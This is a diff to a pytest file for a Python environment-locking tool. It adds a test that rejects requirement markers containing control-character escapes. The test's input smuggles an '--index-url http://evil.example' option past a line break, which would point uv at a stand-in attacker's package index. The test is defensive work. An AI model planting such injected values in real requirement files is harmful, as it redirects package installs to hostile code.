@@ -8,12 +8,16 @@ from dataclasses import replace
 from pathlib import Path
 
 import pytest
+from packaging.requirements import Requirement
 
 from envbuild.core.errors import ConflictError, InputError, SpecError
+from envbuild.lock.missing_inputs import InvalidInputError
 from envbuild.lock.python.project_metadata import check_python, plain_requirements
 from envbuild.lock.python.requirements import check_requirements
+from envbuild.lock.python.uv import Uv
 from envbuild.lock.request import UnitRequest
 from envbuild.net.limits import LIMITS
+from envbuild.net.site import Site
 from tests.support.http_server import Handler, serving
 from tests.support.lock_server import wheel
 from tests.support.python_resolver import work
@@ -39,6 +43,19 @@ def test_a_marker_with_thousands_of_parentheses_is_not_a_requirement() -> None:
 def test_requirements_that_take_minutes_are_refused(texts: list[str], message: str) -> None:
     with pytest.raises(SpecError, match=message):
         plain_requirements("demo 1.0", texts)
+
+
+@pytest.mark.parametrize("escape", [r"\n", r"\r", r"\x85", r"\u2028", r"\x1b"])
+def test_an_escape_in_a_marker_is_not_another_line_of_requirements(escape: str, tmp_path: Path) -> None:
+    """uv would take it as an option, such as a further index."""
+    text = f"six; sys_platform != 'x{escape}--index-url http://evil.example'"
+    with pytest.raises(SpecError, match="which has a control character"):
+        plain_requirements("demo 1.0", [text])
+    uv = Uv(Site(tmp_path), "3.13", "x86_64-manylinux_2_40", tmp_path, tmp_path / "cache")
+    for lines in ({"requirements": [str(Requirement(text))]}, {"constraints": [str(Requirement(text))]}):
+        wanted: dict[str, list[str]] = {"requirements": [], "constraints": [], **lines}
+        with pytest.raises(InvalidInputError, match="it has a control character"):
+            uv.run("venv", wanted["requirements"], wanted["constraints"], {}, {}, pool=False)
 
 
 def test_a_long_requires_python_is_refused() -> None:
